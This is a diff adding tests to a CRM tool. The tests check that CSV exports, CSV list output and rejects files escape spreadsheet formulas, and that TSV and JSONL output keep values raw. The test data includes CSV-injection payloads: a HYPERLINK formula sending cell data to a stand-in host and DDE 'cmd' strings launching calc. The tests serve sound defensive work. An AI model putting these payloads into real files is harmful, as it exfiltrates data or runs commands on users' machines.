@@ -161,7 +161,7 @@ def test_bad_exports(crm, tmp_path):
                    "gb18030)\n")
     assert os.listdir(tmp_path) == []  # neither the file nor its .part
     result = crm("lead", "export", "--output", tmp_path / "no" / "such" / "dir.csv")
-    assert result.code == 1 and result.err.startswith("crm: error: cannot write "), result
+    assert result.code == 6 and result.err.startswith("crm: error: cannot write "), result
 
 
 # --- the round trip ---------------------------------------------------------------------------------
@@ -265,3 +265,76 @@ def test_customers_and_contacts_round_trip(crm, db_url, tmp_path):
         assert result.code == 0, result
         assert result.json()["rejected"] == 0 and result.json()["skipped"] == 0
     assert (table_rows(db_url, Customer, skip), table_rows(db_url, Contact, skip)) == before
+
+
+# --- formula injection (OWASP CSV injection) ---------------------------------------------------------------
+
+FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "'=already quoted", "''+twice"]
+
+
+def formula_leads(crm) -> None:
+    assert crm("field", "add", "lead", "budget", "--type", "number").code == 0
+    for n, text in enumerate(FORMULAS):
+        add(crm, f"Lead {n}", "--company", text, "--title", "-", "--tag", "=tag" if n == 0 else "plain")
+    add(crm, "Numbers", "--company", "-5", "--phone", "+86 138 0013 8000", "--mobile", "+8613900139000",
+        "--set", "budget=-12.5", "--score", "-3" if False else "0")
+
+
+def test_csv_export_escapes_formulas_but_not_numbers(crm):
+    formula_leads(crm)
+    result = crm("lead", "export")
+    assert result.code == 0, result
+    rows = [dict(zip(*pair)) for pair in [(r[0], row) for r in [list(csv.reader(io.StringIO(result.out)))]
+                                          for row in r[1:]]]
+    assert [row["company"] for row in rows[:len(FORMULAS)]] == ["'" + text for text in FORMULAS]
+    assert rows[0]["tags"] == "'=tag"
+    assert rows[0]["title"] == "-"  # one character is no formula
+    numbers = rows[-1]
+    assert numbers["company"] == "-5" and numbers["mobile"] == "+8613900139000"  # plain numbers stay numbers
+    assert numbers["phone"] == "'+86 138 0013 8000"  # a spreadsheet would read this as a formula (+86 …)
+    assert numbers["budget"] == "-12.5" and numbers["score"] == "0"
+
+
+def test_only_csv_is_escaped_and_no_escape_formulas_writes_raw(crm):
+    formula_leads(crm)
+    raw = crm("lead", "export", "--no-escape-formulas")
+    assert [row[2] for row in list(csv.reader(io.StringIO(raw.out)))[1:len(FORMULAS) + 1]] == FORMULAS
+    tsv = crm("lead", "export", "--format", "tsv")
+    assert [line.split("\t")[2] for line in tsv.out.splitlines()[1:len(FORMULAS) + 1]] == FORMULAS
+    jsonl = crm("lead", "export", "--format", "jsonl")
+    assert [json.loads(line)["company"] for line in jsonl.out.splitlines()[:len(FORMULAS)]] == FORMULAS
+
+
+def test_list_format_csv_escapes_formulas(crm):
+    formula_leads(crm)
+    result = crm("lead", "list", "--format", "csv", "--sort", "id")
+    rows = list(csv.reader(io.StringIO(result.out)))
+    column = rows[0].index("company")
+    assert [row[column] for row in rows[1:len(FORMULAS) + 1]] == ["'" + text for text in FORMULAS]
+    assert rows[-1][column] == "-5"
+    tsv = crm("lead", "list", "--format", "tsv", "--sort", "id")  # for scripts: as stored
+    assert tsv.rows()[1][tsv.rows()[0].index("company")] == FORMULAS[0]
+
+
+def test_escaped_csv_imports_back_as_it_was(crm, db_url, tmp_path):
+    formula_leads(crm)
+    before = records(db_url)
+    target = tmp_path / "leads.csv"
+    assert crm("lead", "export", "--output", target).code == 0
+    fresh_database(db_url)
+    assert crm("field", "add", "lead", "budget", "--type", "number").code == 0
+    result = crm("lead", "import", target, "--json")
+    assert result.code == 0, result
+    assert records(db_url) == before
+
+
+def test_the_rejects_file_escapes_formulas(crm, tmp_path):
+    source = tmp_path / "in.csv"
+    source.write_text("name,email,=evil\n=SUM(A1),not-an-email,@x\n", encoding="utf-8")
+    rejects = tmp_path / "rejects.csv"
+    result = crm("lead", "import", source, "--on-error", "skip", "--rejects", rejects)
+    assert result.code == 0, result
+    rows = list(csv.reader(io.StringIO(rejects.read_text(encoding="utf-8"))))
+    assert rows == [["line", "reason", "name", "email", "'=evil"],
+                    ["2", "'not-an-email' is not a valid email address", "'=SUM(A1)", "not-an-email", "'@x"]]
